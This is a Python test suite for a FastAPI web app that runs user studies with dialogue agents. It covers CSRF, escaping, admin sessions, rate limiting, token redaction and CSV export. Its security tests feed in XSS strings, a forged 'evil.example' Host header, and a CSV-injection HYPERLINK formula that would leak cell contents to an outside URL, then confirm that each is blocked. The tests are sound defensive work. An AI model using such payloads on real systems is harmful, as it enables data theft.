"""The user-study app in process (FastAPI's test client): design, storage, security, export,
report. The browser, restart and load tests are in ``test_study_browser.py``."""

from __future__ import annotations

import itertools
import json
import re

import numpy as np
import pytest

pytest.importorskip("fastapi")
pytest.importorskip("httpx")
from fastapi.testclient import TestClient  # noqa: E402

from dialogue_gym.agents.registry import make_agent  # noqa: E402
from dialogue_gym.cli import main  # noqa: E402
from dialogue_gym.jsonl import read_episodes  # noqa: E402
from dialogue_gym.play import agent_view  # noqa: E402
from dialogue_gym.study.access import EntryRules  # noqa: E402
from dialogue_gym.study.app import create_app  # noqa: E402
from dialogue_gym.study.cli import split_agent_specs  # noqa: E402
from dialogue_gym.study.design import latin_square, order_for  # noqa: E402
from dialogue_gym.study.export import export_study  # noqa: E402
from dialogue_gym.study.flow import MAX_MESSAGE_CHARS  # noqa: E402
from dialogue_gym.study.report import analyse  # noqa: E402
from dialogue_gym.study.store import StudyConfig, StudyStore  # noqa: E402

ADMIN = "admin-token-for-tests-0123456789"


@pytest.mark.parametrize("n", [1, 2, 3, 4, 5])
def test_latin_square_is_balanced(n):
    rows = latin_square(n)
    assert len(rows) == (n if n % 2 == 0 else 2 * n) or n == 1
    for row in rows:
        assert sorted(row) == list(range(n))
    for pos in range(n):  # every condition equally often at every position
        counts = np.bincount([row[pos] for row in rows], minlength=n)
        assert len(set(counts)) == 1
    if n > 1:  # first-order carryover: every ordered pair adjacent equally often
        pairs = [(r[i], r[i + 1]) for r in rows for i in range(n - 1)]
        counts = {pair: pairs.count(pair) for pair in itertools.permutations(range(n), 2)}
        assert len(set(counts.values())) == 1
    assert order_for(len(rows), n) == order_for(0, n) == rows[0]


def test_agent_specs_split_between_specs_not_options():
    assert split_agent_specs("scripted, prompting:llm=local:smollm2,max_tokens=60,random") == [
        "scripted",
        "prompting:llm=local:smollm2,max_tokens=60",
        "random",
    ]
    assert split_agent_specs("my_pkg.mod:Agent:temp=0.5,x.py:B") == [
        "my_pkg.mod:Agent:temp=0.5",
        "x.py:B",
    ]
    with pytest.raises(ValueError, match="starts with an option"):
        split_agent_specs("noise=0.1,scripted")


def _client(
    tmp_path, env_id="Persuasion-v0", agents=("scripted", "random"), turns=2, admin=ADMIN, **entry
):
    store = StudyStore(tmp_path / "study.sqlite", StudyConfig(env_id, tuple(agents), turns))
    app = create_app(store, admin_token=admin, entry=EntryRules(**entry))
    return TestClient(app), store


def _join(client) -> tuple[str, str]:
    """A new participant through the landing page; returns (token, csrf of their forms)."""
    page = client.get("/")
    nonce = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    r = client.post("/join", data={"csrf": nonce}, follow_redirects=False)
    assert r.status_code == 303
    token = r.headers["location"].split("/p/")[1]
    page = client.get(f"/p/{token}/consent")
    csrf = re.search(r'name="csrf" value="([^"]+)"', page.text).group(1)
    return token, csrf


def _seen(client, token, pos) -> int:
    return int(
        re.search(r'name="seen" value="(\d+)"', client.get(f"/p/{token}/chat/{pos}").text)[1]
    )


def _visit(client, token, csrf, domain="persuasion", turns=2, n_agents=2, tag="") -> None:
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    for pos in range(n_agents):
        for k in range(turns + (domain == "counseling")):
            seen = _seen(client, token, pos)
            client.post(
                f"/p/{token}/chat/{pos}",
                data={"csrf": csrf, "seen": seen, "text": f"reply {tag}{pos}-{k}"},
            )
        answers = {
            "csrf": csrf,
            "outcome": "1.5" if domain == "persuasion" else "2",
            "comment": f"fine {pos}",
        }
        ratings = (
            ("persuasive", "natural", "again")
            if domain == "persuasion"
            else ("empathic", "natural", "again")
        )
        answers.update({f"rating_{k}": "4" for k in ratings})
        r = client.post(f"/p/{token}/survey/{pos}", data=answers, follow_redirects=False)
        assert r.status_code == 303, r.text


def test_whole_visit_in_process_persuasion(tmp_path):
    client, store = _client(tmp_path)
    token, csrf = _join(client)
    assert "/consent" in client.get(f"/p/{token}", follow_redirects=False).headers["location"]
    _visit(client, token, csrf)
    assert client.get(f"/p/{token}", follow_redirects=False).headers["location"].endswith("/done")
    assert store.counts() == {"participants": 1, "conversations": 2, "messages": 8, "answers": 2}
    p = store.participants()[0]
    for pos in range(2):  # the agent spoke first; two exchanges of agent then participant
        assert [m.role for m in store.messages(p.id, pos)] == ["assistant", "user"] * 2
    assert p.order == order_for(0, 2)


def test_counseling_participant_speaks_first_and_reward_is_intensity_drop(tmp_path):
    client, store = _client(tmp_path, "Counseling-v0", ("scripted",), turns=2)
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    assert "Start the conversation" in client.get(f"/p/{token}/chat/0").text
    for k in range(3):  # opening, then a reply to each of the agent's two turns
        client.post(
            f"/p/{token}/chat/0",
            data={"csrf": csrf, "seen": _seen(client, token, 0), "text": f"m{k}"},
        )
    assert [m.role for m in store.messages(0, 0)] == ["user", "assistant"] * 2 + ["user"]
    form = {
        "csrf": csrf,
        "outcome": "2",
        "rating_empathic": "5",
        "rating_natural": "3",
        "rating_again": "4",
    }
    client.post(f"/p/{token}/survey/0", data=form)
    out = export_study(store, tmp_path / "export")
    episodes, report = read_episodes(tmp_path / "export" / "episodes.jsonl")
    assert out["episodes"] == 1 and not report.bad_lines
    card = store.participants()[0].card
    assert episodes[0].reward == card["intensity"] - 2
    assert episodes[0].outcome["intensity_before"] == card["intensity"]
    assert episodes[0].outcome["ratings"] == {"empathic": 5, "natural": 3, "again": 4}


def test_a_repeated_form_stores_its_message_once(tmp_path):
    client, store = _client(tmp_path)
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    seen = _seen(client, token, 0)
    for _ in range(3):  # double clicks, a reload that re-posts
        client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "hello"})
    texts = [m.text for m in store.messages(0, 0)]
    assert texts.count("hello") == 1 and len(texts) == 3  # agent, hello, agent's answer


def test_agent_turns_survive_a_restart(tmp_path):
    """A new app on the same database (a restarted server) rebuilds the agent's memory: the
    transcript's agent turns are what one uninterrupted agent says on it."""
    client, store = _client(tmp_path, turns=4)
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    for k in range(3):
        if k == 2:
            client, store = _client(tmp_path, turns=4)  # restart
        client.post(
            f"/p/{token}/chat/0",
            data={"csrf": csrf, "seen": _seen(client, token, 0), "text": f"ok {k}"},
        )
    p = store.participants()[0]
    msgs = [{"role": m.role, "content": m.text} for m in store.messages(p.id, 0)]
    agent = make_agent(store.config.agents[p.order[0]], "persuasion")
    agent.reset(seed=p.seed)
    starts = [i for i, m in enumerate(msgs) if m["role"] == "assistant"]
    expected = [agent.act(*agent_view("persuasion", msgs[:i], j, 4)) for j, i in enumerate(starts)]
    assert [msgs[i]["content"] for i in starts] == [e.strip() for e in expected]
    assert len(starts) == 4


def test_forms_without_csrf_token_change_nothing(tmp_path):
    client, store = _client(tmp_path)
    assert client.post("/join", data={"csrf": "forged"}).status_code == 403
    assert store.counts()["participants"] == 0
    token, csrf = _join(client)
    assert client.post(f"/p/{token}/consent", data={"agree": "yes"}).status_code == 403
    assert store.participants()[0].consented is None
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    seen = _seen(client, token, 0)  # the agent's opening
    r = client.post(f"/p/{token}/chat/0", data={"csrf": "x" * 64, "seen": seen, "text": "hi"})
    assert r.status_code == 403
    assert [m.role for m in store.messages(0, 0)] == ["assistant"]


def test_participants_see_only_their_own_pages(tmp_path):
    client, store = _client(tmp_path)
    token_a, csrf_a = _join(client)
    token_b, _ = _join(client)
    assert len(token_a) >= 32 and token_a != token_b
    assert client.get("/p/not-a-token/consent").status_code == 404
    # a's CSRF token does not work on b's pages
    r = client.post(f"/p/{token_b}/consent", data={"csrf": csrf_a, "agree": "yes"})
    assert r.status_code == 403
    # the database holds no token in the clear
    raw = (tmp_path / "study.sqlite").read_bytes()
    assert token_a.encode() not in raw and token_b.encode() not in raw


def test_input_limits_and_escaping(tmp_path):
    client, store = _client(tmp_path)
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    seen = _seen(client, token, 0)
    long = "x" * (MAX_MESSAGE_CHARS + 1)
    r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": long})
    assert r.status_code == 400 and f"at most {MAX_MESSAGE_CHARS}" in r.text
    r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "x" * 70_000})
    assert r.status_code == 413

    def chunks():  # no Content-Length: the limit counts the bytes as they arrive
        yield f"csrf={csrf}&seen={seen}&text=".encode()
        for _ in range(200):
            yield b"&" * 1000

    r = client.post(
        f"/p/{token}/chat/0",
        content=chunks(),
        headers={"content-type": "application/x-www-form-urlencoded"},
    )
    assert r.status_code == 413
    assert len(store.messages(0, 0)) == 1
    evil = '<script>alert("x")</script>'
    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": evil})
    page = client.get(f"/p/{token}/chat/0").text
    assert evil not in page and "&lt;script&gt;alert(&#34;x&#34;)&lt;/script&gt;" in page
    assert store.messages(0, 0)[1].text == evil  # stored as typed, escaped when shown
    r = client.get(f"/p/{token}/chat/0")
    assert "script-src" not in r.headers["content-security-policy"]  # default-src 'none'
    assert r.headers["referrer-policy"] == "no-referrer"


def test_survey_answers_are_validated(tmp_path):
    client, store = _client(tmp_path, turns=1)
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    seen = _seen(client, token, 0)
    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "no thanks"})
    base = {"csrf": csrf, "rating_persuasive": "3", "rating_natural": "3", "rating_again": "3"}
    evil = "</textarea><script>alert(1)</script>"
    r = client.post(f"/p/{token}/survey/0", data={**base, "outcome": "2.5", "comment": evil})
    assert r.status_code == 400 and "outside the allowed range" in r.text
    assert evil not in r.text and "&lt;/textarea&gt;&lt;script&gt;" in r.text  # kept, escaped
    r = client.post(f"/p/{token}/survey/0", data={**base, "outcome": "1", "rating_again": "9"})
    assert r.status_code == 400 and "I would talk with this partner again" in r.text
    assert store.counts()["answers"] == 0
    r = client.post(
        f"/p/{token}/survey/0", data={**base, "outcome": "$0.25"}, follow_redirects=False
    )
    assert r.status_code == 303 and store.answers()[0]["outcome"] == 0.25


def test_admin_pages_need_the_token_and_never_store_it(tmp_path):
    client, store = _client(tmp_path)
    token, csrf = _join(client)
    _visit(client, token, csrf)
    assert "Admin token" in client.get("/admin").text  # the login form, no data
    assert client.get("/admin/answers.csv").status_code == 403
    wrong = {"Authorization": "Bearer wrong"}
    assert client.get("/admin/episodes.jsonl", headers=wrong).status_code == 403
    ok = {"Authorization": f"Bearer {ADMIN}"}
    csv_text = client.get("/admin/answers.csv", headers=ok).text
    assert csv_text.splitlines()[0].startswith('"participant","position","label","agent_index"')
    assert len(csv_text.splitlines()) == 3
    assert len(client.get("/admin/episodes.jsonl", headers=ok).text.splitlines()) == 2
    # the login form sets a cookie derived from the token, not the token
    nonce = client.cookies.get("dg_csrf")
    r = client.post("/admin/login", data={"csrf": nonce, "token": ADMIN}, follow_redirects=False)
    assert r.status_code == 303 and ADMIN not in r.headers.get("set-cookie", "")
    assert 'id="progress"' in client.get("/admin").text
    assert ADMIN.encode() not in (tmp_path / "study.sqlite").read_bytes()
    closed, _ = _client(tmp_path / "other", admin=None)
    assert closed.get("/admin").status_code == 403


def test_study_database_refuses_a_different_study(tmp_path):
    _client(tmp_path)
    with pytest.raises(ValueError, match="name a new --db"):
        StudyStore(tmp_path / "study.sqlite", StudyConfig("Persuasion-v0", ("random",), 2))
    with pytest.raises(ValueError, match="read a simulated persona"):
        _client(tmp_path / "o", agents=("oracle", "random"))


def test_cli_errors_are_one_line(tmp_path, capsys):
    assert (
        main(
            ["study", "report", "--db", str(tmp_path / "none.sqlite"), "--out", str(tmp_path / "r")]
        )
        == 2
    )
    assert "no study database" in capsys.readouterr().err
    _client(tmp_path)
    assert (
        main(
            [
                "study",
                "report",
                "--db",
                str(tmp_path / "study.sqlite"),
                "--out",
                str(tmp_path / "r"),
            ]
        )
        == 2
    )
    assert "no answered conversation" in capsys.readouterr().err
    code = main(
        [
            "study",
            "serve",
            "--env",
            "Persuasion-v0",
            "--agents",
            "oracle,random",
            "--db",
            str(tmp_path / "x.sqlite"),
        ]
    )
    assert code == 2 and "read a simulated persona" in capsys.readouterr().err


def _synthetic_rows(n: int, effect: float, rng: np.random.Generator) -> list[dict]:
    """n participants meet agents 0 and 1 in counterbalanced order; agent 1 adds ``effect``."""
    rows = []
    for p in range(n):
        base = rng.normal(0.5, 0.3)
        for pos, agent in enumerate(order_for(p, 2)):
            reward = base + (effect if agent == 1 else 0.0) + rng.normal(0, 0.2)
            rows.append(
                {
                    "participant": p,
                    "position": pos,
                    "agent_index": agent,
                    "reward": reward,
                    "rating_natural": int(rng.integers(1, 6)),
                }
            )
    return rows


def test_report_finds_a_real_effect_and_not_a_null_one():
    rng = np.random.default_rng(0)
    found = analyse(_synthetic_rows(30, 0.4, rng), ["a", "b"], ["reward", "rating_natural"])
    reward = next(e for e in found["pairs"] if e["measure"] == "reward")
    assert reward["n"] == 30 and reward["p_holm"] < 0.01 and reward["low"] > 0
    assert reward["rank_biserial"] > 0.5 and reward["n_for_80_power"] < 30
    assert found["order"]["test"].startswith("Wilcoxon") and found["order"]["p"] > 0.01
    # with no effect, the corrected test rejects at 5% in about 5% of studies or fewer
    rejected = 0
    for _ in range(100):
        null = analyse(_synthetic_rows(30, 0.0, rng), ["a", "b"], ["reward"])
        rejected += null["pairs"][0]["p_holm"] < 0.05
    assert rejected <= 10


def test_report_flags_an_order_effect():
    rng = np.random.default_rng(1)
    rows = _synthetic_rows(24, 0.0, rng)
    for r in rows:
        r["reward"] += 0.5 * r["position"]  # whoever is met second does better
    order = analyse(rows, ["a", "b"], ["reward"])["order"]
    assert order["p"] < 0.01 and order["per_position"][1]["mean"] > order["per_position"][0]["mean"]


def test_report_cli_writes_tables_and_chart(tmp_path, capsys):
    client, store = _client(tmp_path, agents=("scripted", "random", "human-like"), turns=1)
    for i in range(6):
        token, csrf = _join(client)
        _visit(client, token, csrf, turns=1, n_agents=3, tag=f"p{i}-")
    assert (
        main(
            [
                "study",
                "report",
                "--db",
                str(tmp_path / "study.sqlite"),
                "--out",
                str(tmp_path / "rep"),
            ]
        )
        == 0
    )
    text = (tmp_path / "rep" / "report.md").read_text()
    assert "| scripted | 6 |" in text and "Friedman on 6 participants" in text
    result = json.loads((tmp_path / "rep" / "report.json").read_text())
    assert len(result["pairs"]) == 3 * 4 and result["participants"] == 6
    assert (tmp_path / "rep" / "report.png").read_bytes()[:4] == b"\x89PNG"
    assert (
        main(
            [
                "study",
                "export",
                "--db",
                str(tmp_path / "study.sqlite"),
                "--out",
                str(tmp_path / "exp"),
            ]
        )
        == 0
    )
    episodes, _ = read_episodes(tmp_path / "exp" / "episodes.jsonl")
    assert len(episodes) == 18 and {e.reward for e in episodes} == {1.5}
    assert all(e.reward_source == "real" for e in episodes)


def test_an_llm_backed_agent_and_a_backend_outage(tmp_path):
    """An agent served by an OpenAI-compatible endpoint speaks in the study; while its backend
    errs, the participant's message is kept, the page says to reload, and the reload retries."""
    from dialogue_gym.llm.fake_server import FakeChatServer, Fault

    with FakeChatServer(lambda body: "Would you give a little to Save the Children?") as server:
        spec = f"prompting:llm={server.url}#fake,max_tokens=40"
        client, store = _client(tmp_path, agents=(spec,), turns=2)
        token, csrf = _join(client)
        client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
        assert "Would you give a little" in client.get(f"/p/{token}/chat/0").text
        server.inject(*[Fault("status", status=500, retry_after=0)] * 5)
        r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 1, "text": "Why?"})
        assert r.status_code == 503 and "could not answer" in r.text
        assert [m.role for m in store.messages(0, 0)] == ["assistant", "user"]
        page = client.get(f"/p/{token}/chat/0")  # the reload: the backend answers again
        assert page.status_code == 200
        assert [m.role for m in store.messages(0, 0)] == ["assistant", "user", "assistant"]


def test_behind_a_reverse_proxy_every_link_carries_the_prefix(tmp_path):
    """Served under ``--root-path /study`` (a proxy passes /study/... through): links, form
    actions, redirects and cookie paths all carry the prefix."""
    store = StudyStore(tmp_path / "s.sqlite", StudyConfig("Persuasion-v0", ("scripted",), 2))
    client = TestClient(create_app(store), root_path="/study")
    page = client.get("/study/")
    links = re.findall(r'(?:href|action)="([^"]+)"', page.text)
    assert links and all(x.startswith("/study/") for x in links)
    assert "Path=/study" in page.headers["set-cookie"]
    nonce = re.search(r'name="csrf" value="([^"]+)"', page.text)[1]
    r = client.post("/study/join", data={"csrf": nonce}, follow_redirects=False)
    assert r.headers["location"].startswith("/study/p/")
    consent = client.get(r.headers["location"], follow_redirects=True)
    assert re.search(r'action="/study/p/[^"]+/consent"', consent.text)


def test_edge_cases_a_reviewer_found(tmp_path):
    """Non-ASCII tokens, line breaks, ending an empty chat, whole-number answers."""
    client, store = _client(tmp_path, "Counseling-v0", ("scripted",), turns=2)
    token, csrf = _join(client)
    assert client.post(f"/p/{token}/consent", data={"csrf": "é", "agree": "yes"}).status_code == 403
    r = client.get("/admin", headers={"cookie": "dg_admin=\u00e9".encode()})
    assert r.status_code == 200 and "Admin token" in r.text  # the login form, not a 500
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    r = client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 0, "action": "end"})
    assert r.status_code == 400 and "at least one message" in r.text
    assert store.ended(0) == {}
    text = "ab\r\n" * 300  # 1,200 characters sent, 900 typed (the browser counts a break as one)
    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 0, "text": text})
    assert store.messages(0, 0)[0].text == ("ab\n" * 300).strip()
    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 2, "action": "end"})
    assert store.ended(0) == {0: "ended by participant"}
    client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": 2, "text": "late"})
    assert len(store.messages(0, 0)) == 2  # nothing is added after the end
    form = {"csrf": csrf, "rating_empathic": "3", "rating_natural": "3", "rating_again": "3"}
    r = client.post(f"/p/{token}/survey/0", data={**form, "outcome": "2.5"})
    assert r.status_code == 400 and "whole number" in r.text


def test_order_is_assigned_at_consent_and_csv_cells_are_never_formulas(tmp_path):
    client, store = _client(tmp_path, turns=1)
    _join(client)  # joins, never consents: uses up no row of the Latin square
    token, csrf = _join(client)
    client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
    assert store.participants()[1].order == order_for(0, 2)
    assert store.participants()[0].order == []
    for pos in range(2):
        seen = _seen(client, token, pos)
        client.post(f"/p/{token}/chat/{pos}", data={"csrf": csrf, "seen": seen, "text": "no"})
        client.post(
            f"/p/{token}/survey/{pos}",
            data={
                "csrf": csrf,
                "outcome": "0",
                "rating_persuasive": "1",
                "rating_natural": "1",
                "rating_again": "1",
                "comment": '=HYPERLINK("http://x.example/?"&A1,"click")',
            },
        )
    out = export_study(store, tmp_path / "exp")
    text = (tmp_path / "exp" / "answers.csv").read_text()
    assert "'=HYPERLINK" in text and ',"=HYPERLINK' not in text
    assert out["left_out"] == 0 and out["episodes"] == 2


def test_export_and_report_never_touch_a_file_that_is_not_a_study(tmp_path, capsys):
    import sqlite3

    other = tmp_path / "other.sqlite"
    db = sqlite3.connect(other)
    db.execute("CREATE TABLE t (x)")
    db.commit()
    db.close()
    before = other.read_bytes()
    junk = tmp_path / "junk.sqlite"
    junk.write_text("not a database")
    for path in (other, junk):
        assert main(["study", "export", "--db", str(path), "--out", str(tmp_path / "o")]) == 2
        assert "is not a dialogue-gym study database" in capsys.readouterr().err
    assert other.read_bytes() == before and not (tmp_path / "other.sqlite-wal").exists()
    code = main(
        [
            "study",
            "serve",
            "--env",
            "Persuasion-v0",
            "--agents",
            "scripted,nonesuch",
            "--db",
            str(tmp_path / "new.sqlite"),
        ]
    )
    assert code == 2 and "unknown agent 'nonesuch'" in capsys.readouterr().err
    assert not (tmp_path / "new.sqlite").exists()  # no database tied to a bad configuration


COUNTING_AGENT = """
from dialogue_gym.agents.base import Agent

class Counting(Agent):
    built = 0

    def __init__(self, domain):
        type(self).built += 1
        self.name = "counting"

    def reset(self, seed=None):
        self.turn = 0

    def act(self, observation, info):
        self.turn += 1
        return f"turn {self.turn}"
"""


def test_an_agent_is_built_once_per_spec_and_keeps_memory_per_conversation(tmp_path):
    path = tmp_path / "counting.py"
    path.write_text(COUNTING_AGENT)
    client, store = _client(tmp_path, agents=(f"{path}:Counting",), turns=3)
    study = client.app.state.study
    tokens = [_join(client) for _ in range(3)]
    for token, csrf in tokens:
        client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
        client.post(
            f"/p/{token}/chat/0", data={"csrf": csrf, "seen": _seen(client, token, 0), "text": "hi"}
        )
    cls = type(next(iter(study._prototypes.values())))
    assert cls.built == 1  # three conversations, one agent built (a model would load once)
    for p in store.participants():
        assert [m.text for m in store.messages(p.id, 0) if m.role == "assistant"] == [
            "turn 1",
            "turn 2",
        ]


def test_access_log_redacts_tokens_after_decoding():
    import logging

    from dialogue_gym.study.app import RedactTokens

    token = "AbCdEfGhIjKlMnOpQrStUvWxYz012345"
    variants = [
        f"/p/{token}/chat/0",
        f"/%70/{token}",
        f"/p%2F{token}/consent",
        f"/p%2f{token}",
        f"//p//{token}/card",
        f"/p/%41{token[1:]}",
        f"/%2570/{token}",
        f"/elsewhere?t={token}",
    ]
    for path in variants:
        record = logging.LogRecord(
            "uvicorn.access",
            20,
            "",
            0,
            '%s - "%s %s HTTP/%s" %d',
            ("1.2.3.4", "GET", path, "1.1", 200),
            None,
        )
        assert RedactTokens().filter(record)
        line = record.getMessage()
        assert token not in line and token[1:] not in line and "<redacted>" in line, path
    invite = logging.LogRecord("x", 20, "", 0, "GET /?invite=Sh0rtC0de_x&y=1", None, None)
    RedactTokens().filter(invite)
    assert invite.getMessage() == "GET /?invite=<redacted>&y=1"
    plain = logging.LogRecord("x", 20, "", 0, f"agent failed at /p/{token}", None, None)
    RedactTokens().filter(plain)
    assert plain.getMessage() == "agent failed at /p/<redacted>"
    assert RedactTokens.redact("/static/style.css") == "/static/style.css"


def _admin_login(client, token=ADMIN):
    page = client.get("/admin")
    nonce = re.search(r'name="csrf" value="([^"]+)"', page.text)[1]
    return client.post("/admin/login", data={"csrf": nonce, "token": token}, follow_redirects=False)


def test_admin_sessions_are_new_per_login_end_at_logout_and_expire(tmp_path):
    from dialogue_gym.study.access import AdminSessions

    client, _ = _client(tmp_path)
    first = _admin_login(client)
    assert first.status_code == 303
    cookie = first.cookies["dg_admin"]
    assert "Max-Age=43200" in first.headers["set-cookie"]  # 12 hours
    page = client.get("/admin")
    assert "progress" in page.text and 'id="logout"' in page.text
    nonce = re.search(r'name="csrf" value="([^"]+)"', client.get("/admin").text)[1]
    client.post("/admin/logout", data={"csrf": nonce}, follow_redirects=False)
    client.cookies.set("dg_admin", cookie)  # the cookie, replayed after logout
    assert "Admin token" in client.get("/admin").text
    assert client.get("/admin/answers.csv").status_code == 403
    assert _admin_login(client).cookies["dg_admin"] != cookie  # a fresh id per login
    now = [0.0]
    sessions = AdminSessions(hours=1, clock=lambda: now[0])
    sid = sessions.start()
    now[0] = 3599
    assert sessions.valid(sid)
    now[0] = 3601
    assert not sessions.valid(sid) and not sessions.valid("") and not sessions.valid("x")


def test_wrong_admin_tokens_back_off(tmp_path):
    from dialogue_gym.study.access import AdminSessions

    client, _ = _client(tmp_path)
    for _ in range(5):
        assert _admin_login(client, "wrong-token-0123456789").status_code == 403
    r = _admin_login(client, "wrong-token-0123456789")  # the 6th: counted, then blocked
    assert r.status_code == 403
    r = _admin_login(client)  # even the right token waits out the back-off
    assert r.status_code == 429 and int(r.headers["retry-after"]) >= 1
    bearer = {"Authorization": f"Bearer {ADMIN}"}
    assert client.get("/admin/answers.csv", headers=bearer).status_code == 403
    now = [0.0]
    sessions = AdminSessions(clock=lambda: now[0])
    waits = []
    for _ in range(9):
        sessions.failed("1.2.3.4")
        waits.append(sessions.wait("1.2.3.4"))
    assert waits == [0, 0, 0, 0, 0, 1, 2, 4, 8]  # doubling after five free tries
    assert sessions.wait("5.6.7.8") == 0  # per client
    now[0] = 100
    sessions.succeeded("1.2.3.4")
    assert sessions.wait("1.2.3.4") == 0


def test_serve_refuses_a_short_admin_token(tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("DIALOGUE_GYM_STUDY_ADMIN_TOKEN", "x")
    args = ["study", "serve", "--env", "Persuasion-v0", "--agents", "scripted"]
    assert main([*args, "--db", str(tmp_path / "s.sqlite")]) != 0
    assert "at least 16" in capsys.readouterr().err
    assert not (tmp_path / "s.sqlite").exists()
    monkeypatch.setenv("DIALOGUE_GYM_STUDY_ADMIN_TOKEN", "a" * 16)
    bad = [*args, "--db", str(tmp_path / "t.sqlite"), "--public-url", "https://x.example/study"]
    assert main(bad) != 0 and "--root-path" in capsys.readouterr().err


def test_no_url_is_built_from_the_host_header(tmp_path):
    store = StudyStore(tmp_path / "s.sqlite", StudyConfig("Persuasion-v0", ("scripted",), 2))
    client = TestClient(create_app(store, origin="https://study.example.org"))
    evil = {"host": "evil.example"}
    token, _ = _join(client)
    consent = client.get(f"/p/{token}/consent", headers=evil)
    assert f"https://study.example.org/p/{token}" in consent.text and "evil" not in consent.text
    for path in (f"/p/{token}/", "//evil.example/", f"/p/{token}/card/?x=1"):
        r = client.get("http://testserver" + path, headers=evil, follow_redirects=False)
        assert r.status_code == 308 and "evil.example" not in r.headers["location"].replace(
            "/evil.example", ""
        )
        assert r.headers["location"].startswith("/") and not r.headers["location"].startswith("//")
    assert client.get(f"/p/{token}/card/?x=1", follow_redirects=False).headers["location"] == (
        f"/p/{token}/card?x=1"
    )


def test_csrf_cookie_is_secure_behind_https(tmp_path):
    from uvicorn.middleware.proxy_headers import ProxyHeadersMiddleware

    store = StudyStore(tmp_path / "s.sqlite", StudyConfig("Persuasion-v0", ("scripted",), 2))
    plain = TestClient(create_app(store)).get("/")
    assert "secure" not in plain.headers["set-cookie"].lower()
    # behind a TLS proxy whose X-Forwarded-Proto uvicorn trusts (serve --forwarded-allow-ips)
    proxied = TestClient(ProxyHeadersMiddleware(create_app(store), trusted_hosts="*"))
    tls = proxied.get("/", headers={"X-Forwarded-Proto": "https"})
    assert "secure" in tls.headers["set-cookie"].lower()
    assert "secure" not in proxied.get("/").headers["set-cookie"].lower()


def test_conversation_locks_stay_bounded(tmp_path):
    """However many conversations, the study holds at most LOCK_STRIPES locks (before: one per
    conversation ever held, never freed)."""
    from dialogue_gym.study.flow import LOCK_STRIPES

    client, store = _client(tmp_path, agents=("scripted",), turns=3, joins_per_hour=1000)
    study = client.app.state.study
    for _ in range(LOCK_STRIPES + 6):
        token, csrf = _join(client)
        client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
        seen = _seen(client, token, 0)
        client.post(f"/p/{token}/chat/0", data={"csrf": csrf, "seen": seen, "text": "hi"})
    assert store.counts()["messages"] == 3 * (LOCK_STRIPES + 6)  # agent, participant, agent
    locks = {id(study._lock((p, pos))) for p in range(5000) for pos in range(3)}
    assert len(locks) <= LOCK_STRIPES


def _start(client, query=""):
    """The start page and, when it offers one, the result of pressing *Take part*."""
    page = client.get("/" + query)
    if 'id="start"' not in page.text:
        return page, None
    form = dict(re.findall(r'name="(csrf|invite)" value="([^"]+)"', page.text))
    return page, client.post("/join", data=form, follow_redirects=False)


def test_the_study_fills_up(tmp_path):
    client, store = _client(tmp_path, turns=1, max_participants=2)
    first = [_join(client) for _ in range(2)]
    page, joined = _start(client)
    assert joined is None and "This study is full" in page.text
    nonce = re.search(r'name="csrf" value="([^"]+)"', client.get("/admin").text)[1]
    r = client.post("/join", data={"csrf": nonce}, follow_redirects=False)  # a script
    assert r.status_code == 403 and store.counts()["participants"] == 2
    # two hours on, neither has chatted: their places are free, and two others take them
    with store._tx() as db:
        db.execute("UPDATE participants SET created = created - 7200")
    later = [_join(client) for _ in range(2)]
    for token, csrf in first:  # the first two come back: the study is full for them now
        r = client.post(f"/p/{token}/consent", data={"csrf": csrf, "agree": "yes"})
        assert r.status_code == 403 and "This study is full" in r.text
    for token, csrf in later:  # those holding a place go on, and finish a chat
        _visit(client, token, csrf, turns=1)
    assert store.places_taken() == 2 and len({a["participant"] for a in store.answers()}) == 2


def test_invite_only_study_takes_each_invite_once(tmp_path, capsys):
    client, store = _client(tmp_path, invite_only=True)
    page, joined = _start(client)
    assert joined is None and "by invitation" in page.text
    nonce = re.search(r'name="csrf" value="([^"]+)"', client.get("/admin").text)[1]
    assert client.post("/join", data={"csrf": nonce}).status_code == 403
    assert main(["study", "invite", "--db", str(tmp_path / "study.sqlite"), "--n", "2"]) == 0
    links = capsys.readouterr().out.split()
    assert len(links) == 2 and all(x.startswith("http://127.0.0.1:8000/?invite=") for x in links)
    code = links[0].split("invite=")[1]
    assert _start(client, f"?invite={code}")[1].status_code == 303
    page, joined = _start(client, f"?invite={code}")  # the same link again
    assert joined is None and "has been used" in page.text
    r = client.post("/join", data={"csrf": nonce, "invite": code}, follow_redirects=False)
    assert r.status_code == 403
    assert _start(client, "?invite=made-up")[1] is None
    assert store.counts()["participants"] == 1


def test_joining_is_limited_per_address(tmp_path):
    client, store = _client(tmp_path, joins_per_hour=3)
    codes = [_start(client)[1].status_code for _ in range(5)]
    assert codes == [303, 303, 303, 429, 429] and store.counts()["participants"] == 3
    r = _start(client)[1]
    assert 0 < int(r.headers["retry-after"]) <= 3600


